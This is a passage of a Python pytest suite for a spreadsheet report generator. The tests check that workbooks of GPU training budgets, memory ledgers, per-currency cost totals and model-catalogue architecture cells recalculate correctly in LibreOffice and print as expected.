    """Budget: the spec's budget figures (rows) for every configuration (columns), each a formula
    over that configuration's Ledgers row, and a scatter chart of cost against days."""
    wb = _load(built)
    ws = wb[BUDGET]
    keys = [f.key for f in SPEC.section("budget").figures]
    top = _budget_rows(ws)[REGISTRY[keys[0]].en]  # after the GPUs, days and verdicts
    labels = [ws.cell(top + k, 1).value for k in range(len(keys))]
    assert labels == [REGISTRY[k].en for k in keys]
    assert [ws.cell(1, 3 + i).value for i in range(len(ledgers))] == [
        f"={LEDGERS}!$A${LEDGER_FIRST_ROW + i}" for i in range(len(ledgers))
    ]
    for k, key in enumerate(keys):
        for i in (0, len(ledgers) - 1):
            assert _ledger_ref(key, LEDGER_FIRST_ROW + i) in ws.cell(top + k, 3 + i).value, key
    vals = _load(built, data_only=True)[BUDGET]
    cost_row = top + keys.index("cost")
    for i, led in enumerate(ledgers):
        assert _same(led["cost"], vals.cell(cost_row, 3 + i).value)
    with zipfile.ZipFile(io.BytesIO(built)) as z:
        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
    assert any("<c:scatterChart>" in c and f"{BUDGET}!" in c for c in charts)


# LibreOffice: edits in Inputs reach the check cells and the budget

EDITS = {
    "moe-pp4-megatron-full": dict(
        dp=6
    ),  # ep = 8 no longer divides dp·cp·tp/etp; 1024 not a multiple of 6
    "dense-8b-zero1": dict(dp=6),  # global_batch 512 is not a multiple of micro_batch × dp = 6
    "params-only-offload-adam8bit": dict(price_per_gpu_hour=4.5, mfu=0.5),
}


@pytest.fixture(scope="module")
def edited(built):
    """The built workbook with EDITS typed into Inputs, recalculated by LibreOffice; and the
    engine's ledgers of the edited rows (built past the reader, which refuses the broken ones)."""
    wb = _load(built)
    ws = wb[INPUTS]
    col = {name: j + 1 for j, name in enumerate(COLUMN_NAMES)}
    expect = {}
    for name, changes in EDITS.items():
        i = next(k for k, c in enumerate(CONFIGS) if c["name"] == name)
        for key, v in changes.items():
            ws.cell(2 + i, col[key]).value = v
        expect[i] = compute(Config(dict(config_from_mapping(CONFIGS[i]).values, **changes)))
    buf = io.BytesIO()
    wb.save(buf)
    return _load(_recalc(buf.getvalue()), data_only=True), expect


@pytest.mark.slow
def test_check_cells_name_the_broken_rule_after_an_edit(edited, ledgers):
    """dp = 6 typed into Inputs for a row with ep = 8 (and one with global_batch 512): after
    LibreOffice's recalculation the check cells of Ledgers, Summary and the print sheet name the
    rule, exactly as the engine words it, and check_ok is FALSE; the rows not edited still meet
    every rule."""
    out, expect = edited
    # every figure of the edited rows, broken as they are, is still the engine's
    assert (
        _ledger_mismatches(out[LEDGERS], [expect.get(i, led) for i, led in enumerate(ledgers)])
        == []
    )
    summ = out[SUMMARY]
    col = _summary_col(summ, "check_message")
    for i, led in expect.items():
        msg = led["check_message"]
        got = out[LEDGERS][f"{QUANTITY_LETTERS['check_message']}{LEDGER_FIRST_ROW + i}"].value
        assert _same(msg, got), (i, msg, got)
        assert summ.cell(2 + i, col).value == (msg or None)
        if CONFIGS[i]["name"] in ("moe-pp4-megatron-full", "dense-8b-zero1"):
            assert "global_batch: expected a multiple of micro_batch × dp" in msg
            assert (
                out[LEDGERS][f"{QUANTITY_LETTERS['check_ok']}{LEDGER_FIRST_ROW + i}"].value is False
            )
            page = out.worksheets[3 + i]
            assert any(c.value == msg for r in page.iter_rows(max_row=5) for c in r), i
        if CONFIGS[i]["name"] == "moe-pp4-megatron-full":
            assert msg.startswith(
                "ep: expected ep to divide dp·cp·tp/etp = 6·1·2/2 = 6, found ep = 8; "
            )
    for i, led in enumerate(ledgers):
        if i not in expect and led["check_ok"]:
            assert (
                out[LEDGERS][f"{QUANTITY_LETTERS['check_ok']}{LEDGER_FIRST_ROW + i}"].value is True
            )


@pytest.mark.slow
def test_budget_follows_price_and_mfu(edited, ledgers):
    """A new price and MFU typed into Inputs: after LibreOffice's recalculation the Budget column
    of that configuration holds the engine's budget of the edited row; the others are unchanged."""
    out, expect = edited
    ws = out[BUDGET]
    keys = [f.key for f in SPEC.section("budget").figures]
    top = _budget_rows(ws)[REGISTRY[keys[0]].en]
    i = next(k for k, c in enumerate(CONFIGS) if c["name"] == "params-only-offload-adam8bit")
    assert expect[i]["cost"] != ledgers[i]["cost"]
    for k, key in enumerate(keys):
        want = expect[i][key]
        want = _gb(want) if REGISTRY[key].unit == "bytes" else want
        assert _same(want, ws.cell(top + k, 3 + i).value), key
    for j, c in enumerate(CONFIGS):
        if c["name"] not in EDITS:
            assert _same(ledgers[j]["cost"], ws.cell(top + keys.index("cost"), 3 + j).value), c[
                "name"
            ]


@pytest.mark.slow
def test_printed_workbook_is_the_summary_and_one_page_per_configuration(tmp_path):
    """The default print of the example workbook (LibreOffice's PDF export of every sheet's
    print area): the Summary's pages, then one A4-landscape page per configuration, in order,
    each carrying its name, its last section and its assumptions (nothing cut off), then the
    Budget (#26 item 2: it prints, one page wide); no page of Inputs, Ledgers, Help or the
    lookup sheets."""
    from ledger_report.inputs import read_configs

    leds = [compute(c) for c in read_configs(ROOT / "inputs" / "examples.csv")]
    pdf = recalculate_with_libreoffice(
        render_xlsx(leds), soffice=SOFFICE or pytest.fail("no soffice"), convert_to="pdf"
    )
    path = tmp_path / "book.pdf"
    path.write_bytes(pdf)
    n_summary = wbk.summary_pages(len(leds))
    if shutil.which("pdfinfo"):
        info = subprocess.run(
            ["pdfinfo", str(path)], capture_output=True, text=True, check=True
        ).stdout
        assert int(re.search(r"Pages:\s+(\d+)", info)[1]) == n_summary + len(leds) + 1
    from pypdf import PdfReader

    pages = PdfReader(path).pages
    assert len(pages) == n_summary + len(leds) + 1 and n_summary == 1
    budget = pages[-1].extract_text()
    assert "ledger-report: budget" in budget and "Totals by currency" in budget
    for p in pages:
        w, h = float(p.mediabox.width), float(p.mediabox.height)
        assert (round(w), round(h)) == (842, 595)  # A4 landscape
    first = pages[0].extract_text()
    assert "ledger-report: summary" in first and all(l.name in first for l in leds[:5])
    for i, led in enumerate(leds):
        text = pages[n_summary + i].extract_text()
        assert led.name in text, i
        for words in (
            "Model-state ledger (per rank)",
            "Memory by phase (reported stage)",
            "Budget",
            "Assumptions",
        ):
            assert words in text, (led.name, words)


@pytest.mark.slow
def test_chinese_help_says_defaults_in_chinese(ledgers):
    """The Chinese Help sheet gives a default described in words in Chinese (由结构计算, 框架口径的值
    ...), and a default that is a value (bf16, 1) as typed; every phrase of the table is a real default."""
    from ledger_report.config import DEFAULT_ZH

    assert set(DEFAULT_ZH) <= {c.default for c in COLUMNS}
    ws = _load(render_xlsx(ledgers, lang="zh"))["Help"]
    rows = {
        r[0].value: [c.value for c in r]
        for r in ws.iter_rows()
        if r[0].value in {c.name for c in COLUMNS}
    }
    for col in COLUMNS:
        if col.default in DEFAULT_ZH:
            assert DEFAULT_ZH[col.default] in rows[col.name], col.name
        elif col.default:
            assert col.default in rows[col.name], col.name


def test_unit_display_is_defined_once_for_every_registry_unit():
    """The workbook's number formats and unit words come from the model's one table
    (model/units.py UNIT_DISPLAY): every unit a registry quantity has is in it, or is text or a
    truth value (shown as words)."""
    from ledger_report.model import registry as R
    from ledger_report.model.units import UNIT_DISPLAY
    from ledger_report.render.workbook import report

    used = {q.unit for q in REGISTRY}
    assert used - set(UNIT_DISPLAY) <= {R.TEXT, R.BOOL}, used - set(UNIT_DISPLAY)
    for unit, d in UNIT_DISPLAY.items():
        assert report._SHOW_FORMATS.get(unit, "General") == d.shown_format
        assert report._unit_word(unit, "zh") == d.zh


_ARCH_ROW = dict(ARCH_8B, seq_len=8192, days=30, gpu="H100-SXM")
BIG_BATCH_ROWS = [
    dict(_ARCH_ROW, name="slots-16M", dp=8, global_batch=16_000_000, tokens=10**12),
    # 2 x 1,048,583 (a prime): divisors 1, 2, p, 2p, so the answer is n/k for k = 2, past sqrt(n)
    dict(_ARCH_ROW, name="slots-2p", dp=2, global_batch=2 * 1_048_583, tokens=10**15),
    # short sequences: a step under 10^8 s, whose text has at most 10 digits (the engine's text_of
    # writes 10 significant digits, the spreadsheet 15: a separate matter)
    dict(
        _ARCH_ROW,
        name="slots-2^40",
        dp=1024,
        seq_len=128,
        global_batch=2**40,
        tokens=10**16,
        days=5,
    ),
    dict(
        _ARCH_ROW,
        name="slots-2^40-mb4",
        seq_len=128,
        dp=1024,
        zero=1,
        micro_batch=4,
        global_batch=2**42,
        tokens=10**16,
        days=5,
    ),
]


def test_minimum_gpus_past_a_sheets_rows_by_hand():
    """#27: the smallest buildable dp of a batch of more than 1,048,576 micro-batches.  By hand:
    2 x 1,048,583 has the divisors 1, 2, 1,048,583 and its double, so the smallest at least the
    ~43,900 GPUs the deadline needs is 1,048,583; 2^40 micro-batches have only powers of two as
    divisors, so at least 2,352,331 (over 2^21) gives 2^22 = 4,194,304.  Past 1,048,576^2 micro-batches the
    row is refused by one rule, naming global_batch."""
    got = {r["name"]: compute(config_from_mapping(r)) for r in BIG_BATCH_ROWS}
    assert got["slots-2p"]["dp_for_deadline"] == 1_048_583
    assert got["slots-2^40"]["gpus_needed_compute"] > 2**21
    assert got["slots-2^40"]["dp_for_deadline"] == 2**22
    with pytest.raises(InputError, match="global_batch.*1,099,511,627,776 micro-batches"):
        config_from_mapping(dict(BIG_BATCH_ROWS[2], global_batch=2**40 + 1, micro_batch=1))


@pytest.mark.slow
def test_minimum_gpus_past_a_sheets_rows_recalculate_to_the_engine():
    """#27: ROW(INDIRECT("1:"&n)) broke past 1,048,576 micro-batches; the formula walks the divisor
    pairs up to sqrt(n).  LibreOffice's recalculation (cached values poisoned first) gives the
    engine's value in every Ledgers cell of rows with 2.1 M to 2^40 micro-batches."""
    ledgers = _ledgers(BIG_BATCH_ROWS)
    assert max(l["batch_slots"] for l in ledgers) == 2**40
    wb = _load(_recalc(_poisoned(render_xlsx(ledgers))), data_only=True)
    assert _ledger_mismatches(wb[LEDGERS], ledgers) == []


# Rows that name a model (the architecture filled from the catalogue, models.json) and one that
# types its own layers over its model's.
MODEL_ROWS = [
    dict(name="qwen3-8b", model="Qwen3-8B", dp=8, seq_len=4096, global_batch=256, tokens=10**11),
    dict(name="llama-8b-own-layers", model="Llama-3.1-8B", layers=40, dp=8, global_batch=256),
]


@pytest.fixture(scope="module")
def model_built():
    ledgers = _ledgers(MODEL_ROWS)
    return ledgers, render_xlsx(ledgers)


@pytest.mark.slow
def test_architecture_cells_follow_the_model_cell(model_built, tmp_path):
    """#26 item 1: an architecture cell its model filled is a formula over the hidden Models sheet
    keyed by the row's model cell, cached with the catalogue's value (models.json: Qwen3-8B has
    36 layers, hidden 4096); a column the row typed itself stays a value; the workbook reads back
    to the same figures."""
    from ledger_report.catalogue import MODELS
    from ledger_report.inputs import read_configs

    ledgers, data = model_built
    col = {name: _col_index(name) for name in ("layers", "hidden", "model")}
    ws = _load(data)[INPUTS]
    cached = _load(data, data_only=True)[INPUTS]
    assert "Models" in _load(data).sheetnames and _load(data)["Models"].sheet_state == "hidden"
    layers = ws.cell(2, col["layers"]).value
    assert isinstance(layers, str) and layers.startswith("=") and "tbl_models_layers" in layers
    assert cached.cell(2, col["layers"]).value == MODELS["Qwen3-8B"].columns["layers"] == 36
    assert cached.cell(2, col["hidden"]).value == 4096
    assert ws.cell(3, col["layers"]).value == 40  # typed: a value
    assert str(ws.cell(3, col["hidden"]).value).startswith("=")  # from Llama-3.1-8B
    path = tmp_path / "models.xlsx"
    path.write_bytes(data)
    for cfg, led in zip(read_configs(path), ledgers):
        again = compute(cfg)
        assert all(_same(v, again[k]) for k, v in led.values.items()), led.name


def _col_index(name: str) -> int:
    return COLUMN_NAMES.index(name) + 1


@pytest.mark.slow
def test_a_changed_model_cell_brings_its_architecture(model_built):
    """#26 item 1: change the model cell of a built workbook with openpyxl (Qwen3-8B to
    Llama-3.1-70B), recalculate in LibreOffice: the row's architecture cells are the 70B's (80
    layers, hidden 8192, models.json) and its Ledgers row equals the engine on that row as read
    from the catalogue; a model the workbook does not hold empties the architecture and the
    check cell names the missing columns."""
    ledgers, data = model_built
    wb = _load(data)
    wb[INPUTS].cell(2, _col_index("model")).value = "Llama-3.1-70B"
    wb[INPUTS].cell(3, _col_index("model")).value = "no-such-model"
    buf = io.BytesIO()
    wb.save(buf)
    out = _load(_recalc(buf.getvalue()), data_only=True)
    inputs = out[INPUTS]
    assert inputs.cell(2, _col_index("layers")).value == 80
    assert inputs.cell(2, _col_index("hidden")).value == 8192
    edited = compute(config_from_mapping(dict(MODEL_ROWS[0], model="Llama-3.1-70B")))
    assert edited["params_total"] > 60e9
    assert _ledger_mismatches(out[LEDGERS], [edited]) == []
    check = out[LEDGERS][f"{QUANTITY_LETTERS[REGISTRY_CHECK]}{LEDGER_FIRST_ROW + 1}"].value
    assert "hidden" in check and "heads" in check, check


REGISTRY_CHECK = "check_message"  # report.py ReportSpec.check


@pytest.mark.slow
def test_workbook_with_a_config_json_model_rebuilds_from_its_own_folder(tmp_path):
    """#26 item 1 / walkthrough defect 6: inputs/examples.csv names configs/qwen3-30b-a3b.json
    (relative to inputs/); the built workbook in another folder names it relative to its own
    folder, so reading the workbook back finds the file and gives the same figures."""
    from ledger_report import api
    from ledger_report.inputs import read_configs

    out = tmp_path / "deep" / "out"
    (path,) = api.build(ROOT / "inputs" / "examples.csv", out, formats=("xlsx",))
    back = {c.name: c for c in read_configs(path)}
    row = back["qwen3-30b-a3b-config-json"]
    assert (path.parent / row.get("model")).resolve() == (
        ROOT / "inputs" / "configs" / "qwen3-30b-a3b.json"
    ).resolve()
    first = api.compute(ROOT / "inputs" / "examples.csv")
    for led in first:
        again = compute(back[led.name])
        assert all(_same(v, again[k]) for k, v in led.values.items()), led.name


_PRICED = dict(ARCH_8B, seq_len=8192, global_batch=512, tokens=10**12, days=30, gpu="H100-SXM")
TWO_CURRENCIES = [
    dict(_PRICED, name="a-usd", dp=32, price_per_gpu_hour=2.5, currency="USD"),
    dict(_PRICED, name="b-cny", dp=64, price_per_gpu_hour=17, currency="CNY"),
    dict(_PRICED, name="c-usd", dp=16, price_per_gpu_hour=3, currency="usd"),
]


def _budget_rows(ws) -> dict[str, int]:
    """The first row of each label in column A (the chart data below repeats some)."""
    out: dict[str, int] = {}
    for r in range(1, ws.max_row + 1):
        if ws.cell(r, 1).value:
            out.setdefault(ws.cell(r, 1).value, r)
    return out


@pytest.mark.slow
def test_costs_carry_their_currency_and_total_within_it():
    """#26 item 2: two currencies in one file.  Cost cells are formatted with their row's
    currency (Summary, Ledgers, Budget); the Budget shows each row's GPUs, days and verdicts and
    totals per currency: USD = a + c (SUMIF ignores case: "usd" is USD), CNY = b alone; no cell
    holds a total across currencies; the Budget prints (a print area, one page wide)."""
    ledgers = _ledgers(TWO_CURRENCIES)
    data = render_xlsx(ledgers)
    wb, vals = _load(data), _load(data, data_only=True)
    ws, wv = wb[BUDGET], vals[BUDGET]
    rows = _budget_rows(wv)
    for label in ("GPUs of this configuration dp·tp·pp·cp", "deadline verdict", "deadline"):
        assert label in rows, label
    assert [
        wv.cell(rows["GPUs of this configuration dp·tp·pp·cp"], c).value for c in (3, 4, 5)
    ] == [
        32,
        64,
        16,
    ]
    assert ws.cell(rows["cost"], 3).number_format == '#,##0.00 "USD"'
    assert ws.cell(rows["cost"], 4).number_format == '#,##0.00 "CNY"'
    total = rows["total cost"]
    assert [wv.cell(rows["currency"] + 0, c).value for c in (3, 4, 5)] == ["USD", "CNY", "usd"]
    assert wv.cell(total, 3).value == pytest.approx(ledgers[0]["cost"] + ledgers[2]["cost"])
    assert wv.cell(total, 4).value == pytest.approx(ledgers[1]["cost"])
    assert wv.cell(total, 5).value is None
    assert str(ws.cell(total, 3).value).startswith("=SUMIF(")
    everything = sum(l["cost"] for l in ledgers)
    cells = [c.value for row in wv.iter_rows() for c in row if isinstance(c.value, float)]
    assert not any(v == pytest.approx(everything) for v in cells)
    assert ws.print_area and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.fitToHeight == 0  # one page wide, as tall as it takes
    summ = wb[SUMMARY]
    cost_col = _summary_col(summ, "cost")
    assert [summ.cell(r, cost_col).number_format for r in (2, 3)] == [
        '#,##0.00 "USD"',
        '#,##0.00 "CNY"',
    ]
    led = wb[LEDGERS]
    assert led[f"{QUANTITY_LETTERS['cost']}{LEDGER_FIRST_ROW + 1}"].number_format.endswith('"CNY"')


@pytest.mark.slow
def test_budget_totals_per_currency_recalculate(tmp_path):
    """The totals per currency are live: after changing row c's currency to CNY with openpyxl and
    recalculating in LibreOffice, USD totals a alone and CNY b + c (the engine's costs)."""
    ledgers = _ledgers(TWO_CURRENCIES)
    wb = _load(render_xlsx(ledgers))
    wb[INPUTS].cell(4, COLUMN_NAMES.index("currency") + 1).value = "CNY"
    buf = io.BytesIO()
    wb.save(buf)
    out = _load(_recalc(buf.getvalue()), data_only=True)[BUDGET]
    total = _budget_rows(out)["total cost"]
    assert out.cell(total, 3).value == pytest.approx(ledgers[0]["cost"], rel=1e-9)
    assert out.cell(total, 4).value == pytest.approx(
        ledgers[1]["cost"] + ledgers[2]["cost"], rel=1e-9
    )


def test_plan_workbook_shows_layouts_and_the_pareto_front():
    """#26 item 6 (workbook): with the planner's document, a Plans sheet after the Summary gives
    each plan's layout in words and the Pareto front's days and cost, and a scatter chart of
    cost against days over them (the front as a line, the plans as markers)."""
    rows = [
        dict(ARCH_8B, name="p1", dp=4, tp=1, pp=1, cp=2, zero=2, global_batch=384, seq_len=8192),
        dict(ARCH_8B, name="p2", dp=8, tp=2, pp=1, cp=1, zero=1, global_batch=384, seq_len=8192),
    ]
    ledgers = _ledgers(rows)
    plan = lambda r, **k: dict(input="job", row=r, gpu="H100-SXM", **k)  # noqa: E731
    doc = {
        "plans": [
            plan(rows[0], rank=1, gpus=8, days=19.26, cost=7395.69, peak_fraction=0.84),
            plan(rows[1], rank=2, gpus=16, days=9.8, cost=7530.0, peak_fraction=0.5),
        ],
        "pareto": [
            plan(dict(rows[0], name="f1", dp=384), gpus=3072, days=0.056, cost=8285.9),
            plan(dict(rows[0], name="f2"), gpus=8, days=19.26, cost=7395.69),
        ],
    }
    data = render_xlsx(ledgers, plans=doc)
    wb = _load(data)
    assert wb.sheetnames[:2] == [SUMMARY, "Plans"]
    ws = wb["Plans"]
    layouts = [ws.cell(r, 4).value for r in range(1, ws.max_row + 1)]
    assert "dp 4 · tp 1 · pp 1 · cp 2 · zero 2" in layouts  # the row gives these columns
    costs = [ws.cell(r, 7).value for r in range(1, ws.max_row + 1)]
    assert 8285.9 in costs and costs.count(7395.69) == 2  # a plan on the front, and the front
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
    assert any(
        "<c:scatterChart>" in c and "Plans!" in c and "Pareto front job" in c for c in charts
    )


@pytest.mark.slow
def test_summary_layout_column_holds_its_longest_layout(built, ledgers):
    """The Summary's layout column (dp × tp × pp × cp = GPUs; ep; ZeRO; recompute) is at least as
    many characters wide as its longest text, so LibreOffice does not clip it against the next
    cell (the walkthrough saw "dp4×tp1×pp1×cp1 = 4 GPUs; ep1; ZeR")."""
    ws = _load(built)[SUMMARY]
    header = [c.value for c in ws[1]]
    col = next(c for c in ws[1] if c.value and "layout" in str(c.value).lower()).column_letter
    longest = max(len(str(lg["layout_text"])) for lg in ledgers)
    assert longest > 30 and header
    assert ws.column_dimensions[col].width >= longest
